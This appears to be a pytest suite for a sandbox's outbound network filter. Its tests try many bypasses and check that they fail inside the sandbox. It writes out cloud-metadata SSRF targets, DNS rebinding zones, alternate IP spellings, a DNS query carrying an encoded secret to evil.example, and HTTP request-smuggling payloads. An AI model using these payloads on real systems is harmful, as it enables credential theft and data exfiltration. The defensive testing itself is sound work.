"""Bypasses of a filter of names. Each works outside. Inside, the servers record no request."""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from typing import Any

import pytest

from tests.support.features import need_program
from tests.support.sandbox import SandboxRunner, Word
from tests.support.tester import Outcome
from tests.support.two_machines import NAME_SERVER, OWN, OWN_SIXTH, TwoMachines, two_machines
from tests.support.waiting import wait_for

EVIL = "93.184.216.66"
# Allowed names with forbidden addresses.
METADATA = {
    "link-local": "169.254.169.254",
    "mapped": "::ffff:169.254.169.254",
    "nat64": "64:ff9b::a9fe:a9fe",
    "own-nat64": "64:ff9b:1::a9fe:a9fe",
    "6to4": "2002:a9fe:a9fe::1",
    "amazon": "fd00:ec2::254",
    "alibaba": "100.100.100.200",
    "azure": "168.63.129.16",
    "oracle": "192.0.0.192",
}
REBOUND = {
    "loopback": "127.0.0.1",
    "loopback-2": "127.8.9.10",
    "loopback-6": "::1",
    "nobody": "0.0.0.0",
    "nobody-6": "::",
    "ten": "10.0.0.5",
    "hundred": "100.64.0.5",
    "seventeen": "172.16.0.5",
    "nineteen": "192.168.0.5",
    "zero": "0.1.2.3",
    "bench": "198.18.0.1",
    "unique": "fc00::5",
    "site": "fec0::5",
    "mapped-ten": "::ffff:10.0.0.5",
    "mapped-loopback": "::ffff:127.0.0.1",
    "nat64-ten": "64:ff9b::a00:5",
    "6to4-ten": "2002:a00:5::1",
    "teredo-ten": "2001:0:a00:5::1",
    "own": OWN,
    "own-6": OWN_SIXTH,
    "own-mapped": f"::ffff:{OWN}",
}
DOMAIN = "allowed.example"
ZONE: dict[str, list[str] | list[list[str]]] = {
    **{f"{name}.{DOMAIN}": [address] for name, address in {**METADATA, **REBOUND}.items()},
    "metadata.google.internal": ["169.254.169.254"],
    f"alias.{DOMAIN}": ["=metadata.google.internal"],
    f"inward.{DOMAIN}": [f"=loopback.{DOMAIN}"],
    f"turning.{DOMAIN}": [["93.184.216.34"], ["127.0.0.1"]],
    "evil.example": [EVIL],
}
NAMED = f'[network]\nallowed_hosts = ["*.{DOMAIN}"]\n'
EVERY = '[network]\nallowed_hosts = ["*"]\ndefault = "allow"\n'

# Sends a request to each host and prints the result.
_VISIT = """
import json, socket, sys
print("started", flush=True)
def visit(host):
    try:
        with socket.create_connection((host, 80), 10) as client:
            client.sendall(f"GET / HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n".encode())
            return client.recv(4096).decode().split("\\r\\n")[0]
    except (OSError, UnicodeError) as error:
        return str(error)
print(json.dumps([visit(host) for host in sys.argv[1:]]))
"""
# Asks for names with labels of any bytes, over UDP and TCP, and prints each answer.
_ASK = """
import json, socket, sys
print("started", flush=True)
server, kinds, names = sys.argv[1], json.loads(sys.argv[2]), json.loads(sys.argv[3])
def ask(labels, kind, over):
    name = b"".join(bytes([len(one)]) + one.encode("latin-1") for one in labels) + b"\\0"
    message = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + name + kind.to_bytes(2, "big") + \
b"\\0\\1"
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    with socket.socket(family, over) as client:
        client.settimeout(60)
        client.connect((server, 53))
        if over == socket.SOCK_STREAM:
            client.sendall(len(message).to_bytes(2, "big") + message)
            said = client.makefile("rb").read(2 + 8)[2:]
        else:
            client.send(message)
            said = client.recv(4096)
        return [said[3] & 15, said[7]]
ways = [socket.SOCK_DGRAM, socket.SOCK_STREAM]
print(json.dumps([ask(one, kind, over) for one in names for kind in kinds for over in ways]))
"""


@pytest.fixture(name="machines", scope="module")
def _machines() -> Iterator[TwoMachines]:
    with two_machines(ZONE) as made:
        yield made


def _visiting(*hosts: str) -> list[Word]:
    return [need_program("python3"), "-c", _VISIT, *hosts]


def _asking(
    names: Sequence[Sequence[str]], kinds: Sequence[int] = (1,), server: str = NAME_SERVER
) -> list[Word]:
    return [need_program("python3"), "-c", _ASK, server, json.dumps(kinds), json.dumps(names)]


def _answers(outcome: Outcome) -> list[Any]:
    assert outcome.started, str(outcome)
    answers = json.loads(outcome.stdout.splitlines()[-1])
    assert isinstance(answers, list)
    return answers


def _visited(received: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [one for one in received if "request" in one]


def test_an_allowed_name_is_reached(full: SandboxRunner, machines: TwoMachines) -> None:
    """The control of the other tests: the same request to an allowed name."""
    outcome = machines.inside(full, _visiting(f"Web.{DOMAIN}", f"web.{DOMAIN}."), NAMED)
    assert _answers(outcome) == ["HTTP/1.1 200 OK"] * 2, str(outcome)
    assert [one["place"] for one in _visited(machines.received())] == ["there"] * 2


@pytest.mark.parametrize("way", ["udp", "tcp"])
def test_a_static_program_asks_for_names_itself(
    full: SandboxRunner, machines: TwoMachines, way: str
) -> None:
    words: list[Word] = [full.programs.caller, way, NAME_SERVER, "evil.example", "80"]
    control = machines.outside(full, words)
    assert "200 OK" in control.stdout, str(control)
    assert [one.get("to") for one in machines.received()] == [None, EVIL]
    outcome = machines.inside(full, words, NAMED)
    assert outcome.answer == "no such name: 3", str(outcome)
    assert machines.received() == []


@pytest.mark.parametrize(
    "policy",
    [
        "[network]\nallowed_hosts = []\n",
        f'[network]\nallowed_hosts = ["{DOMAIN}"]\n',
        f'[network]\nallowed_hosts = ["*.{DOMAIN}"]\ndenied_hosts = ["*"]\n',
        f'[network]\nallowed_hosts = ["*.{DOMAIN}:8080"]\n',
    ],
    ids=["an empty list", "the domain itself", "denied", "another port"],
)
def test_an_unlisted_host_is_not_reached(
    full: SandboxRunner, machines: TwoMachines, policy: str
) -> None:
    words = _visiting(f"web.{DOMAIN}", f"x{DOMAIN}", f"{DOMAIN}.evil.example", EVIL, "2a00:9::34")
    assert _answers(machines.outside(full, words)) == ["HTTP/1.1 200 OK"] * 5
    assert len(_visited(machines.received())) == 5
    outcome = machines.inside(full, words, policy)
    assert "HTTP/1.1 200 OK" not in _answers(outcome), str(outcome)
    assert machines.received() == []


# One address in spellings that the C library accepts, and in some that programs write.
SPELLINGS = [
    "93.184.216.66",
    "1572395074",
    "0x5db8d842",
    "0135.0270.0330.0102",
    "93.12113986",
    "0x5d.0xb8.0xd842",
]


def test_no_spelling_of_an_address_passes_as_an_allowed_name(
    full: SandboxRunner, machines: TwoMachines
) -> None:
    words = _visiting(*SPELLINGS, f"::ffff:{EVIL}", "64:ff9b::5db8:d842")
    control = machines.outside(full, words)
    assert _answers(control) == ["HTTP/1.1 200 OK"] * 8, str(control)
    machines.received()
    for policy in (NAMED, EVERY):
        outcome = machines.inside(full, words, policy)
        assert not any("200" in answer for answer in _answers(outcome)), str(outcome)
        assert machines.received() == []


ODD = [
    ["evil\0", "allowed", "example"],
    ["evil.example\0", "allowed", "example"],
    ["evil.example", "allowed", "example"],
    ["evil.com:443", "allowed", "example"],
    ["a\r\nHost: evil.example", "allowed", "example"],
    ["a b", "allowed", "example"],
    ["fe80::1%eth0", "allowed", "example"],
    ["%65vil", "allowed", "example"],
    ["user@evil", "allowed", "example"],
    ["a/b", "allowed", "example"],
    ["b\xfccher", "allowed", "example"],
    ["1572395074"],
    ["0x5db8d842"],
    ["93", "184", "216", "66"],
]


@pytest.mark.parametrize("policy", [NAMED, EVERY], ids=["below a name", "every name"])
def test_odd_names_are_not_looked_up(
    full: SandboxRunner, machines: TwoMachines, policy: str
) -> None:
    assert _answers(machines.outside(full, _asking(ODD))) == [[0, 1]] * len(ODD) * 2
    assert len(machines.received()) == len(ODD) * 2
    outcome = machines.inside(full, _asking(ODD), policy)
    assert all(code != 0 and count == 0 for code, count in _answers(outcome)), str(outcome)
    assert machines.received() == []


KINDS = {"A": 1, "AAAA": 28, "TXT": 16, "NULL": 10, "SRV": 33, "HTTPS": 65, "ANY": 255}


@pytest.mark.parametrize("server", [NAME_SERVER, "8.8.8.8", "2a00:9::53"])
def test_no_dns_question_leaves_the_machine(
    full: SandboxRunner, machines: TwoMachines, server: str
) -> None:
    """Not even for an allowed name before it is dialled: a name in a question can carry data to its
    name server.
    """
    names, kinds = (
        [["c2VjcmV0", "evil", "example"], ["c2VjcmV0", "allowed", "example"]],
        list(KINDS.values()),
    )
    control = machines.outside(full, _asking(names, kinds))
    assert len(machines.received()) == 4 * len(kinds), str(control)
    outcome = machines.inside(full, _asking(names, kinds, server), NAMED)
    each = 2 * len(kinds)
    assert [code for code, _ in _answers(outcome)] == [3] * each + [0] * each, str(outcome)
    assert machines.received() == []


def test_cloud_metadata_addresses_are_not_reached_under_any_list(
    full: SandboxRunner, machines: TwoMachines
) -> None:
    names = [f"{name}.{DOMAIN}" for name in (*METADATA, "alias")] + ["metadata.google.internal"]
    literal = [*METADATA.values(), "2852039166", "0xa9fea9fe", "0251.0376.0251.0376"]
    control = machines.outside(full, _visiting(*names, *literal))
    assert _answers(control) == ["HTTP/1.1 200 OK"] * len([*names, *literal]), str(control)
    machines.received()
    listed = ", ".join(
        f'"{address}"' for address in ("0.0.0.0/0", "::/0", "*", "*.example", "*.internal")
    )
    for policy in (EVERY, f'[network]\nallowed_hosts = [{listed}]\ndefault = "allow"\n'):
        outcome = machines.inside(full, _visiting(*names, *literal), policy)
        assert not any("200" in answer for answer in _answers(outcome)), str(outcome)
        assert _visited(machines.received()) == []


def test_a_name_with_an_internal_address_is_not_dialled(
    full: SandboxRunner, machines: TwoMachines
) -> None:
    names = [f"{name}.{DOMAIN}" for name in (*REBOUND, "inward")]
    control = dict(zip(names, _answers(machines.outside(full, _visiting(*names))), strict=True))
    reached = [name for name, answer in control.items() if answer == "HTTP/1.1 200 OK"]
    # This kernel has no route to 0.0.0.0/8.
    assert set(names) - set(reached) <= {f"zero.{DOMAIN}"}, control
    machines.received()
    for policy in (NAMED, EVERY):
        outcome = machines.inside(full, _visiting(*names), policy)
        assert not any("200" in answer for answer in _answers(outcome)), str(outcome)
        assert _visited(machines.received()) == []


def test_a_rebinding_name_is_dialled_at_the_checked_address(
    full: SandboxRunner, machines: TwoMachines
) -> None:
    names = [f"turning.{DOMAIN}"] * 8
    machines.outside(full, _visiting(*names))
    assert {one["place"] for one in _visited(machines.received())} == {"here", "there"}, (
        "the control"
    )
    outcome = machines.inside(full, _visiting(*names), NAMED)
    assert "HTTP/1.1 200 OK" in _answers(outcome), str(outcome)
    assert {one["place"] for one in _visited(machines.received())} == {"there"}


# Bytes on a connection to an allowed name. A server with both names would answer for the denied
# one.
_FRONTED = {
    "another host": "GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "two hosts": "GET / HTTP/1.1\r\nHost: web.allowed.example\r\nHost: evil.example\r\n\r\n",
    "the target": "GET http://evil.example/ HTTP/1.1\r\nHost: web.allowed.example\r\n\r\n",
    "folded": "GET / HTTP/1.1\r\nHost: web.allowed.example\r\nX: a\r\n Host: evil.example\r\n\r\n",
    "a space before the colon": "GET / HTTP/1.1\r\nHost : evil.example\r\n\r\n",
    "bare newlines": "GET / HTTP/1.1\nHost: web.allowed.example\nHost: evil.example\n\r\n\r\n",
    "the second request": "GET / HTTP/1.1\r\nHost: web.allowed.example\r\n\r\n"
    "GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "behind a body of two lengths": "POST / HTTP/1.1\r\nHost: web.allowed.example\r\n"
    "Content-Length: 40\r\n"
    "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "HTTP/2 in the clear": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nevil.example",
}
_SAY = """
import socket, sys
print("started", flush=True)
for said in sys.argv[2:]:
    try:
        with socket.create_connection((sys.argv[1], 80), 10) as client:
            client.sendall(said.encode())
            client.shutdown(socket.SHUT_WR)
            while client.recv(4096):
                pass
    except OSError:
        pass
"""


def test_a_request_for_another_host_does_not_arrive(
    full: SandboxRunner, machines: TwoMachines
) -> None:
    words: list[Word] = [need_program("python3"), "-c", _SAY, f"web.{DOMAIN}", *_FRONTED.values()]
    assert machines.outside(full, words).started
    control = [one["request"] for one in _visited(machines.received())]
    assert len(control) > len(_FRONTED)
    assert sum("evil.example" in one for one in control) == len(_FRONTED) - 1, control
    outcome = machines.inside(full, words, NAMED)
    assert outcome.started, str(outcome)
    arrived = [one["request"] for one in _visited(machines.received())]
    # One connection has two requests. The first arrives and the second is refused.
    assert not any("evil.example" in one for one in arrived), arrived
    assert f"GET / HTTP/1.1\r\nHost: web.{DOMAIN}" in arrived


# All other protocols of the kernel. One line each: the protocol and the result.
_OTHERWISE = """
import socket, struct, sys
print("started", flush=True)
there, sixth = sys.argv[1:]
def stream(protocol):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, protocol) as client:
        client.settimeout(60)
        client.connect((there, 80))
        client.sendall(b"GET /stream HTTP/1.0\\r\\nHost: evil.example\\r\\n\\r\\n")
        return client.recv(15)
def fast_open():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as client:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("ll", 60, 0))
        client.sendto(b"GET /fast HTTP/1.0\\r\\nHost: evil.example\\r\\n\\r\\n", 0x20000000, \
(there, 80))
        return client.recv(15)
def fast_message():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as client:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("ll", 60, 0))
        said = b"GET /message HTTP/1.0\\r\\nHost: evil.example\\r\\n\\r\\n"
        client.sendmsg([said], [], 0x20000000, (there, 80))
        return client.recv(15)
def datagram(family, address, protocol=0):
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as client:
        client.settimeout(60)
        client.connect((address, 443))
        client.send(b"hello")
        return client.recv(15)
def unconnected():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.sendto(b"hello", (there, 443))
        client.sendmsg([b"hello"], [], 0, (there, 443))
ways = {
    "mptcp": lambda: stream(262), "fast open": fast_open, "fast open by message": fast_message,
    "udp": lambda: datagram(socket.AF_INET, there), "udp 6": lambda: datagram(socket.AF_INET6, \
sixth),
    "unconnected": unconnected,
    "sctp": lambda: stream(132), "dccp": lambda: socket.socket(socket.AF_INET, 6, 33),
    "raw": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 17),
}
for name, way in ways.items():
    try:
        print(name, way(), sep=": ")
    except OSError as error:
        print(name, error, sep=": ")
"""


def test_no_other_protocol_leaves_the_machine(full: SandboxRunner, machines: TwoMachines) -> None:
    words: list[Word] = [need_program("python3"), "-c", _OTHERWISE, EVIL, "2a00:9::66"]
    control = machines.outside(full, words)
    arrived = machines.received()

    def all_datagrams() -> bool:  # the last two have no answer
        arrived.extend(machines.received())
        return len([one for one in arrived if "datagram" in one]) == 4

    wait_for(all_datagrams, f"four datagrams arrive: {control}")
    assert {"GET /fast", "GET /message"} <= {
        one["request"][: one["request"].index(" H")] for one in _visited(arrived)
    }
    for policy in (NAMED, EVERY):
        outcome = machines.inside(full, words, policy)
        assert outcome.started, str(outcome)
        assert "200 OK" not in outcome.stdout, str(outcome)
        assert "udp: [Errno 111]" in outcome.stdout, str(outcome)
        assert machines.received() == []


def test_a_listed_block_does_not_open_the_addresses_of_clouds_in_it(
    full: SandboxRunner, machines: TwoMachines
) -> None:
    """Several of these addresses serve credentials to instances, pods and functions."""
    clouds = (
        "fd00:ec2::254",
        "fd00:ec2::23",
        "fd00:a9fe:a9fe::1",
        "fd20:ce::254",
        "fd00:c1::a9fe:a9fe",
        "fd00:42::42",
    )
    words = _visiting(*clouds, "fd00:ec3::23")
    assert _answers(machines.outside(full, words)) == ["HTTP/1.1 200 OK"] * 7
    machines.received()
    outcome = machines.inside(full, words, '[network]\nallowed_hosts = ["fc00::/7"]\n')
    assert [one["to"] for one in _visited(machines.received())] == ["fd00:ec3::23"], outcome
